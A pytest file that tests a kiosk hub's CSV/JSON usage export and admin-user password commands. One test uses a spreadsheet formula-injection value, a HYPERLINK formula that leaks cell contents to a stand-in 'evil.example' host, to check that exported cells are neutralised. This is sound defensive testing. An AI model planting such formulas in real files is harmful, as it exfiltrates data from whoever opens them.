"""`kiosk-hub export` and `kiosk-hub admin-user` through hub_cli.main(argv), on SQLite and
PostgreSQL: exact CSV and JSON, every raw event exactly once, logins, and one-line errors."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa

from kiosk import hub_cli
from kiosk.hub import auth, reports
from kiosk.hub.schema import admin_sessions, admin_users
from kiosk.hub.store import Store
from kiosk.hub.usage import LONDON
from tests.hub.test_reports import BRIXTON, EALING, session, ts

BOM = "\ufeff"


@pytest.fixture
def hub(hub_db_url, tmp_path):
    """(common flags, store) for a hub with a few sessions on Monday 6 January 2025."""
    store = Store(hub_db_url)
    for i in range(9):
        store.ingest("a", BRIXTON, session(ts(f"2025-01-06 10:{i:02d}"), "pl", 60 + i,
                                           guides=["blue-badge"]))
    store.ingest("b", EALING, session(ts("2025-01-06 15:00"), "ar", 100, started=["email"],
                                      completed=["email"]))
    yield ["--data-dir", str(tmp_path / "data"), "--db", hub_db_url], store
    store.close()


def run(capsys, *argv: str) -> tuple[int, str, str]:
    rc = hub_cli.main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def hour_rows(cells: dict[int, object]) -> list[str]:
    days = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
    names = reports.WEEKDAYS
    return [f"sessions_by_hour_of_week,hour_of_week,{days[h // 24]} {h % 24:02d}:00,"
            f"{names[h // 24]} {h % 24:02d}:00-{h % 24:02d}:59,{cells.get(h, 0)}"
            for h in range(168)]


def test_csv_exact(hub, capsys):
    flags, _ = hub
    rc, out, err = run(capsys, "export", *flags, "--from", "2025-01-05", "--to", "2025-01-07")
    assert rc == 0 and err == ""
    assert out.startswith(BOM)
    expected = [
        "table,dimension,key,label,value",
        "filter,from,2025-01-05,,2025-01-05",
        "filter,to,2025-01-07,,2025-01-07",
        "filter,centre,,,all centres",
        "filter,suppressed,,,yes",
        "sessions,,,,10",
        # 9 + 1 on one day: the day shows 10 (no small cell); Ealing's 1 hides Brixton's 9
        "sessions_by_day,day,2025-01-05,,0",
        "sessions_by_day,day,2025-01-06,,10",
        "sessions_by_day,day,2025-01-07,,0",
        *hour_rows({10: "<8", 15: "<8"}),
        "sessions_by_language,language,ar,Arabic,<8",
        "sessions_by_language,language,pl,Polish,<8",
        "sessions_by_centre,centre,Brixton Library,,<8",
        "sessions_by_centre,centre,Ealing Central Library – Café,,<8",
        "median_session_length_s,,,,64.5",
        "guides_opened,,,,9",
        "guides_opened_by_service,service,blue-badge,Apply for a Blue Badge,9",
        "tutorials_started,,,,<8",
        "tutorials_completed,,,,<8",
        "tutorial_completion_rate,,,,*",
        "tutorials_started_by_tutorial,tutorial,email,Email,<8",
        "tutorials_completed_by_tutorial,tutorial,email,Email,<8",
        "tutorial_completion_rate_by_tutorial,tutorial,email,Email,*",
    ]
    assert out == BOM + "".join(line + "\r\n" for line in expected)
    # and Excel's way of reading it, through the csv module, agrees
    rows = list(csv.reader(io.StringIO(out[1:])))
    assert rows[0] == list(reports.FIGURE_COLUMNS)
    assert ["sessions_by_centre", "centre", EALING, "", "<8"] in rows


def test_csv_unsuppressed_for_one_centre(hub, capsys):
    flags, _ = hub
    rc, out, _ = run(capsys, "export", *flags, "--from", "2025-01-06", "--to", "2025-01-06",
                     "--centre", EALING, "--no-suppress")
    assert rc == 0
    lines = out[1:].splitlines()
    assert "filter,centre,Ealing Central Library – Café,,Ealing Central Library – Café" in lines
    assert "filter,suppressed,,,no" in lines
    assert "sessions,,,,1" in lines
    assert "sessions_by_centre,centre,Ealing Central Library – Café,,1" in lines
    assert "tutorial_completion_rate_by_tutorial,tutorial,email,Email,1.0" in lines
    assert "median_session_length_s,,,,100.0" in lines
    assert not any(line.startswith("guides_opened_by_service") for line in lines)


def test_json_exact(hub, capsys):
    flags, _store = hub
    rc, out, _ = run(capsys, "export", *flags, "--format", "json", "--from", "2025-01-06",
                     "--to", "2025-01-06")
    assert rc == 0
    assert json.loads(out) == {
        "filters": {"from": "2025-01-06", "to": "2025-01-06", "centre": None},
        "suppressed": True,
        "rolled_up_until": None,
        "notes": [],
        "sessions": {
            "total": 10,
            "by_day": [{"day": "2025-01-06", "sessions": 10}],
            "by_hour_of_week": [[0] * 10 + ["<8"] + [0] * 4 + ["<8"] + [0] * 8]
            + [[0] * 24] * 6,
            "by_language": [{"language": "ar", "name": "Arabic", "sessions": "<8"},
                            {"language": "pl", "name": "Polish", "sessions": "<8"}],
            "by_centre": [{"centre": BRIXTON, "sessions": "<8"},
                          {"centre": EALING, "sessions": "<8"}],
            "median_length_s": 64.5,
        },
        "services": {"opened": 9, "rows": [{"id": "blue-badge",
                                            "title": "Apply for a Blue Badge", "opened": 9}]},
        "tutorials": {"started": "<8", "completed": "<8", "completion_rate": "*",
                      "rows": [{"id": "email", "title": "Email", "started": "<8",
                                "completed": "<8", "completion_rate": "*"}]},
    }
    # UTF-8, not \\u escapes
    assert EALING in out


def test_out_file(hub, capsys, tmp_path):
    flags, _ = hub
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "figures.csv"
    rc, out, err = run(capsys, "export", *flags, "--from", "2025-01-06", "--to", "2025-01-06",
                       "--out", str(target))
    assert rc == 0 and out == ""
    assert err == f"kiosk-hub: wrote usage figures 2025-01-06 to 2025-01-06 to {target}\n"
    text = target.read_bytes().decode("utf-8")
    assert text.startswith(BOM + "table,dimension,key,label,value\r\n")
    assert "sessions,,,,10\r\n" in text
    assert [p.name for p in target.parent.iterdir()] == ["figures.csv"]  # no temporary left


def test_default_range_is_the_last_30_days(hub, capsys):
    flags, store = hub
    store.ingest("a", BRIXTON, session(datetime.now(LONDON).timestamp() - 60, "en", 30))
    rc, out, _ = run(capsys, "export", *flags, "--format", "json", "--no-suppress")
    assert rc == 0
    rep = json.loads(out)
    today = datetime.now(LONDON).date()
    assert rep["filters"] == {"from": (today - timedelta(days=29)).isoformat(),
                              "to": today.isoformat(), "centre": None}
    assert len(rep["sessions"]["by_day"]) == 30
    assert rep["sessions"]["total"] == 1  # January's are long before


def all_event_ids(store: Store) -> set[str]:
    from kiosk.hub.schema import events

    with store.engine.connect() as c:
        return set(c.execute(sa.select(events.c.event_id)).scalars())


def test_raw_json_has_every_event_exactly_once(hub, capsys):
    flags, store = hub
    # more events than one streamed batch (2000)
    for i in range(150):
        store.ingest("c", "Kilburn Library", session(ts("2025-02-01 09:00") + i * 300, "en",
                                                     120, guides=["council-tax"] * 12))
    stored = all_event_ids(store)
    assert len(stored) > 2000
    rc, out, err = run(capsys, "export", *flags, "--raw", "--format", "json")
    assert rc == 0 and err == ""
    lines = out.splitlines()
    events = [json.loads(line) for line in lines]
    ids = Counter(e["event_id"] for e in events)
    assert set(ids) == stored and max(ids.values()) == 1 and len(lines) == len(stored)
    first = next(e for e in events if e["type"] == "session_end" and e["centre"] == EALING)
    assert first == {**first, "terminal_id": "b", "language": "ar", "duration_ms": 100000,
                     "outcome": "finished", "day": "2025-01-06", "hour_of_week": 15,
                     "time": "2025-01-06T15:01:40Z"}
    assert list(first) == list(reports.RAW_COLUMNS)


def test_raw_csv_and_filters(hub, capsys):
    flags, store = hub
    rc, out, _ = run(capsys, "export", *flags, "--raw")
    assert rc == 0 and out.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(out[1:])))
    assert Counter(r["event_id"] for r in rows) == Counter(all_event_ids(store))
    assert list(rows[0]) == list(reports.RAW_COLUMNS)
    # one centre, one day
    rc, out, _ = run(capsys, "export", *flags, "--raw", "--format", "json", "--centre", EALING,
                     "--from", "2025-01-06", "--to", "2025-01-06")
    events = [json.loads(line) for line in out.splitlines()]
    assert rc == 0 and len(events) == 5 and {e["centre"] for e in events} == {EALING}
    rc, out, _ = run(capsys, "export", *flags, "--raw", "--from", "2025-01-07")
    assert rc == 0 and out == BOM + ",".join(reports.RAW_COLUMNS) + "\r\n"


# Centre names come from `kiosk-hub enrol-code --centre`, typed by whoever enrols a terminal:
# a spreadsheet must not run one as a formula when an admin opens the export.
FORMULA_CENTRE = '=HYPERLINK("http://evil.example/?"&A1,"Brixton")'


def test_csv_export_cells_cannot_be_formulas(hub, capsys):
    flags, store = hub
    for centre in (FORMULA_CENTRE, "@SUM(A1:A9)", "+44 20 7946 0000", "-1+2"):
        store.ingest("f", centre, session(ts("2025-01-06 12:00"), "en", 30))
    rc, out, _ = run(capsys, "export", *flags, "--from", "2025-01-06", "--to", "2025-01-06",
                     "--no-suppress")
    assert rc == 0
    rows = list(csv.reader(io.StringIO(out[1:])))
    centres = [row[2] for row in rows if row[0] == "sessions_by_centre"]
    assert sorted(centres) == sorted([BRIXTON, EALING, "'" + FORMULA_CENTRE, "'@SUM(A1:A9)",
                                      "'+44 20 7946 0000", "'-1+2"])
    assert not any(cell[:1] in ("=", "+", "@") for row in rows for cell in row)
    # the raw events' CSV goes through the same writer
    rc, out, _ = run(capsys, "export", *flags, "--raw", "--centre", FORMULA_CENTRE)
    rows = list(csv.DictReader(io.StringIO(out[1:])))
    assert rc == 0 and len(rows) == 3
    assert {r["centre"] for r in rows} == {"'" + FORMULA_CENTRE}
    assert {r["hour_of_week"] for r in rows} == {"12"}  # numbers stay numbers


def test_help_says_raw_is_unsuppressed(capsys):
    with pytest.raises(SystemExit):
        hub_cli.main(["export", "--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "UNSUPPRESSED" in out and "admins only" in out


@pytest.mark.parametrize("argv, message", [
    (["--from", "2025-02-30"], "kiosk-hub: --from: '2025-02-30' is not a date (YYYY-MM-DD)"),
    (["--to", "25-01-01"], "kiosk-hub: --to: '25-01-01' is not a date (YYYY-MM-DD)"),
    (["--from", "2025-01-06T00:00"],
     "kiosk-hub: --from: '2025-01-06T00:00' is not a date (YYYY-MM-DD)"),
    (["--from", "2025-02-01", "--to", "2025-01-01"],
     "kiosk-hub: --from 2025-02-01 is after --to 2025-01-01"),
    (["--raw", "--from", "2025-02-01", "--to", "2025-01-01"],
     "kiosk-hub: --from 2025-02-01 is after --to 2025-01-01"),
    (["--from", "1990-01-01", "--to", "2025-01-01"],
     "kiosk-hub: a report covers at most 3700 days, not 12785"),
    (["--centre", "Nowhere"], (f"kiosk-hub: --centre: no centre named 'Nowhere' (known: "
                              f"{BRIXTON}, {EALING})")),
])
def test_export_errors_are_one_line(hub, capsys, argv, message):
    flags, _ = hub
    rc, out, err = run(capsys, "export", *flags, *argv)
    assert (rc, out, err) == (1, "", message + "\n")


# --- admin-user ------------------------------------------------------------------------------

def stdin(monkeypatch, text: str) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(text))


def test_admin_user_create_and_reset(hub, capsys, monkeypatch):
    flags, store = hub
    stdin(monkeypatch, "correct horse battery staple\n")
    rc, out, err = run(capsys, "admin-user", *flags, "alice", "--password-stdin")
    assert (rc, out, err) == (0, "admin alice: created\n", "")
    assert auth.verify_login(store.engine, "alice", "correct horse battery staple")
    assert auth.admin_exists(store.engine, " alice ") and not auth.admin_exists(store.engine,
                                                                                "bob")
    with store.engine.connect() as c:
        stored = c.execute(sa.select(admin_users.c.password_hash)).scalar_one()
    assert stored.startswith("$argon2id$") and "staple" not in stored
    # a session is open; resetting the password ends it
    auth.create_session(store.engine, "alice")
    stdin(monkeypatch, "a completely different one\r\n")
    rc, out, _ = run(capsys, "admin-user", *flags, "alice", "--password-stdin")
    assert rc == 0 and out == "admin alice: password reset; every dashboard session of alice " \
                              "was ended\n"
    assert not auth.verify_login(store.engine, "alice", "correct horse battery staple")
    assert auth.verify_login(store.engine, "alice", "a completely different one")
    with store.engine.connect() as c:
        assert c.execute(sa.select(sa.func.count()).select_from(admin_sessions)).scalar() == 0
        assert c.execute(sa.select(sa.func.count()).select_from(admin_users)).scalar() == 1


def test_admin_user_prompts_twice(hub, capsys, monkeypatch):
    flags, store = hub
    answers = iter(["twelve chars ok", "twelve chars ok"])
    prompts = []
    monkeypatch.setattr("getpass.getpass", lambda prompt="": prompts.append(prompt)
                        or next(answers))
    rc, out, _ = run(capsys, "admin-user", *flags, "bob")
    assert rc == 0 and out == "admin bob: created\n" and len(prompts) == 2
    assert auth.verify_login(store.engine, "bob", "twelve chars ok")
    answers = iter(["twelve chars ok!", "twelve chars ok?"])
    rc, out, err = run(capsys, "admin-user", *flags, "bob")
    assert (rc, err) == (1, "kiosk-hub: the two passwords differ; nothing was changed\n")
    assert auth.verify_login(store.engine, "bob", "twelve chars ok")


@pytest.mark.parametrize("text, message", [
    ("short pw11\n", ("kiosk-hub: the password must be at least 12 characters long (a few "
                     "unrelated words make a good one)")),
    ("", "kiosk-hub: --password-stdin: nothing on stdin (give the password as one line)"),
])
def test_admin_user_refuses_bad_passwords(hub, capsys, monkeypatch, text, message):
    flags, store = hub
    stdin(monkeypatch, text)
    rc, out, err = run(capsys, "admin-user", *flags, "carol", "--password-stdin")
    assert (rc, out, err) == (1, "", message + "\n")
    with store.engine.connect() as c:
        assert c.execute(sa.select(sa.func.count()).select_from(admin_users)).scalar() == 0


def test_admin_user_refuses_a_blank_name(hub, capsys, monkeypatch):
    flags, _ = hub
    stdin(monkeypatch, "long enough password\n")
    rc, _, err = run(capsys, "admin-user", *flags, "  ", "--password-stdin")
    assert (rc, err) == (1, "kiosk-hub: the admin name must not be empty\n")


def test_titles_come_from_the_published_pack(hub, capsys, tmp_path):
    """A guide renamed, or added, by a newer pack is named by the hub's figures."""
    import shutil

    from kiosk.core import packs
    from kiosk.core.settings import DEFAULT_CONTENT_DIR
    from kiosk.hub.store import PublishedPacks

    flags, _ = hub
    src = tmp_path / "content"
    shutil.copytree(DEFAULT_CONTENT_DIR, src)
    path = src / "services" / "blue-badge.json"
    item = json.loads(path.read_text(encoding="utf-8"))
    item["title"]["en"] = "Blue Badge parking permit"
    path.write_text(json.dumps(item, ensure_ascii=False), encoding="utf-8")
    key, pub = packs.generate_keypair(tmp_path / "keys")
    packs.build(src, tmp_path / "pack", packs.load_secret_key(key), 3)
    PublishedPacks(tmp_path / "data").publish(tmp_path / "pack", packs.load_trusted_keys(pub))
    rc, out, _ = run(capsys, "export", "--format", "json", "--from", "2025-01-06", "--to",
                     "2025-01-06", "--no-suppress", *flags)
    assert rc == 0
    rows = json.loads(out)["services"]["rows"]
    assert [(r["id"], r["title"]) for r in rows] == [("blue-badge",
                                                      "Blue Badge parking permit")]
